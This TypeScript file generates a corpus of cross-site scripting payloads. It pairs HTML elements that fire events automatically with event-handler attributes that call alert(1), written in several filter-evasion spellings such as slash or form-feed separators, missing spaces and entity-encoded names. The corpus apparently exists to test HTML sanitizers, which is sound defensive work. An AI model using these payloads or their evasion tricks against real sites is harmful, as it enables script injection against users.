/** Elements on which browsers run a handler without user interaction, and their required content. */
const carriers: [element: string, inside: string, events: string][] = [
  ["img src=/a", "", "error load loadstart loadend"],
  ["body", "x", "load pageshow pagehide hashchange popstate message beforeunload unload resize scroll storage online"],
  ["svg", "<g></g>", "load begin end repeat activate focusin"],
  ["details open", "<summary>x</summary>", "toggle beforetoggle"],
  [
    "video autoplay muted",
    "<source src=/a>",
    "canplay loadeddata loadedmetadata play playing progress timeupdate ended",
  ],
  [
    "audio autoplay",
    "<source src=/a>",
    "durationchange emptied ratechange seeked stalled suspend volumechange waiting",
  ],
  ["input autofocus", "", "focus blur change input invalid select search beforeinput formdata"],
  ["div tabindex=1 id=f", "x", "click dblclick mousedown mouseup mousemove mouseover mouseout mouseenter mouseleave"],
  ["p contenteditable", "x", "copy cut paste keydown keyup keypress compositionstart beforecopy beforecut beforepaste"],
  ["a href=/ draggable=true", "x", "drag dragstart dragend dragenter dragleave dragover drop auxclick contextmenu"],
  ["strong style='animation: a 1s'", "x", "animationstart animationend animationiteration animationcancel"],
  ["em style='transition: color 1s'", "x", "transitionrun transitionstart transitionend transitioncancel"],
  ["span", "x", "pointerdown pointerup pointermove pointerover pointerout pointerenter pointerleave pointerrawupdate"],
  ["li", "x", "touchstart touchend touchmove touchcancel gotpointercapture lostpointercapture wheel mousewheel"],
  ["marquee width=1 loop=1", "x", "start finish bounce"],
  ["dialog open", "x", "cancel close"],
  ["form", "<button>x</button>", "submit reset"],
  ["table", "<tr><td>x", "scrollend scrollsnapchange selectstart selectionchange"],
  ["blockquote", "x", "contentvisibilityautostatechange securitypolicyviolation slotchange fullscreenchange command"],
  ["iframe src=/", "", "load error"],
  ["link rel=stylesheet href=/a", "", "load error"],
];

/** Ways to separate an attribute from the text before it, and to quote it. */
const spellings = [
  (element: string, event: string) => `<${element} on${event}=alert(1)>`,
  (element: string, event: string) => `<${element}/on${event}=alert(1)>`,
  (element: string, event: string) => `<${element}\n\ton${event.toUpperCase()} = "alert(1)">`,
  (element: string, event: string) => `<${element}\u000con${event}='alert(1)'/>`,
  (element: string, event: string) => `<${element} x="'" y='"' on${event}=\`alert(1)\`>`,
  (element: string, event: string) => `<${element} on${event}=&#97;lert&lpar;1&rpar;>`,
  (element: string, event: string) => `<${element} class="wm-align-center"on${event}="alert(1)">`,
];

/** Handlers of events: every carrier with each of its events, each spelt in another way. */
export const hostileEvents: readonly string[] = carriers.flatMap(([element, inside, events]) =>
  events.split(" ").map((event, i) => {
    const spell = spellings[(i + element.length) % spellings.length] ?? spellings[0];
    const name = element.split(" ")[0];
    return `${spell?.(element, event)}${inside}${inside === "" ? "" : `</${name}>`}`;
  }),
);
